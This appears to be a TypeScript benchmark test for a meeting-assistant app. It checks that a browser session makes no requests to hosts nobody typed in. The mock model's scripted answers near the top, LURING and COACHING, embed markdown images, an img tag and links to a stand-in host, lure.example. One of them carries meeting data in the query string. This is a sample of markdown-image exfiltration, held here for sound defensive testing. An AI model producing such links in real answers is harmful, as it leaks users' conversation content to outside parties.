import { createServer } from 'node:http';
import type { AddressInfo } from 'node:net';
import type { LLMock } from '@copilotkit/aimock';
import { expect, type Page } from '@playwright/test';
import type { Figure, SiteGround } from '../bench/measure.mjs';
import {
  ask,
  initializeServices,
  openNewestSession,
  startMeeting,
  stopMeeting,
  toast,
} from '../e2e/app-steps.js';
import { openCoach, panel } from '../e2e/coach-steps.js';
import { openIntegrations } from '../e2e/integrations-steps.js';
import { MODELS, requestsTo, startModelServer } from '../e2e/model-server.js';
import { untilKept } from '../e2e/offline-steps.js';
import { sayFinal, scriptSpeech } from '../e2e/scripted-speech.js';
import { openReceiver } from '../e2e/webhook-receiver.js';
import { inBrowser } from './in-browser.js';
import { HEARD_HOW, hostOf, leak, lineOf, ofPages, toldOwn, toOthers } from './wire.js';

const QUESTION = 'What did they say of the price?';
/** A model that was told, by what it read on a screen, to have something fetched. */
const LURING =
  'They said **forty thousand**. ![chart](https://lure.example/pixel.png?said=forty) See ' +
  '[the offer](https://lure.example/offer) and <img src="https://lure.example/tag.png"> for more.';
const COACHING = JSON.stringify({
  overallScore: 80,
  strengths: ['You named the price.'],
  improvements: ['You could ask what it is compared with.'],
  specificTips: ['![tip](https://lure.example/tip.png)'],
  confidence: 8,
  communication: 8,
  technical: 8,
  engagement: 8,
});

/**
 * A whole session with a model, a webhook and a calendar, each at an address that was typed in; and which hosts were
 * asked. What the model answers tries to have more fetched.
 */
export async function noOtherHost({ site }: SiteGround): Promise<readonly Figure[]> {
  const [model, hook, calendar] = await Promise.all([startModelServer(), openReceiver(), openCalendar()]);
  model.onMessage(/How did the person do/, { content: COACHING });
  model.on({ model: MODELS.compatible }, { content: LURING });
  const named = {
    'the site': hostOf(site),
    'the model': hostOf(model.url),
    'the webhook': hostOf(hook.url),
    'the calendar': hostOf(calendar.address),
  };
  try {
    const { result, browsersOwn } = await inBrowser({ site }, async ({ page, heard }) => {
      await scriptSpeech(page);
      await initializeServices(page, { compatible: { address: `${model.url}/v1`, model: 'llama3.2' } });
      await addCalendar(page, calendar.address);
      await addWebhook(page, hook.url);
      await untilKept(page);
      await page.getByRole('tab', { name: 'Assistant' }).click();
      await meet(page, model);
      await hook.messages('session_ended', 1);
      const all = [...heard];
      await leak(page, heard);
      return all;
    });
    const requests = ofPages(result, browsersOwn);
    const others = toOthers(requests, Object.values(named));
    const counts = Object.entries(named).map(
      ([name, host]) => [name, requests.filter((request) => request.host === host).length] as const,
    );
    const unasked = counts.filter(([, count]) => count === 0).map(([name]) => name);
    if (unasked.length > 0) throw new Error(`Nothing came to ${unasked.join(', ')}.`);
    return [
      {
        figure: 'Requests to hosts that nobody typed in, in a session with a model, a webhook and a calendar',
        value: `${others.length} of ${requests.length} requests`,
        goal: '0',
        met: others.length === 0,
        how: `Asked were ${counts.map(([name, count]) => `${name} ${count}`).join(', ')}. The model’s answers hold pictures, tags and links of another host, which is never asked. ${HEARD_HOW} ${toldOwn(browsersOwn)}`,
        details: { others: others.map(lineOf), requests: requests.map(lineOf) },
      },
    ];
  } finally {
    await Promise.all([model.stop(), hook.close()]);
    calendar.close();
  }
}

/** From Start to what is advised, and the replay. */
async function meet(page: Page, model: LLMock): Promise<void> {
  await startMeeting(page);
  await expect(page.getByText('Active', { exact: true })).toBeVisible();
  await sayFinal(page, 'we would pay forty thousand for this');
  const answer = await ask(page, QUESTION);
  await expect(answer).toContainText('forty thousand');
  await stopMeeting(page);
  await openCoach(page);
  await expect(panel(page, 'Coaching feedback')).toContainText('You named the price.');
  await expect(await openNewestSession(page)).toContainText('forty thousand');
  expect(requestsTo(model).length).toBeGreaterThan(1);
}

export async function addWebhook(page: Page, url: string): Promise<void> {
  await openIntegrations(page, 'Webhooks');
  await page.getByRole('button', { name: 'Add a webhook' }).click();
  const form = page.getByRole('dialog', { name: 'Add a webhook' });
  await form.getByLabel('Name', { exact: true }).fill('Our server');
  await form.getByLabel('URL').fill(url);
  await form.getByRole('button', { name: 'Make a secret' }).click();
  await form.getByRole('button', { name: 'Add webhook' }).click();
  await expect(toast(page, 'Webhook Added')).toBeVisible();
}

export async function addCalendar(page: Page, address: string): Promise<void> {
  await openIntegrations(page, 'Calendar');
  const add = page.getByRole('region', { name: 'Add a calendar' });
  await add.getByLabel('The address of a calendar').fill(address);
  await add.getByRole('button', { name: 'Add address' }).click();
  await expect(page.getByRole('list', { name: 'Calendars' }).getByRole('listitem')).toHaveCount(1);
}

/** An empty calendar, as the server of a company would serve it. */
export async function openCalendar() {
  const text = ['BEGIN:VCALENDAR', 'VERSION:2.0', 'PRODID:-//made up//EN', 'END:VCALENDAR', ''].join('\r\n');
  const server = createServer((_, response) => {
    response.writeHead(200, { 'content-type': 'text/calendar', 'access-control-allow-origin': '*' });
    response.end(text);
  });
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  const { port } = server.address() as AddressInfo;
  return {
    address: `http://127.0.0.1:${port}/team.ics`,
    close: () => {
      server.closeAllConnections();
      server.close();
    },
  };
}
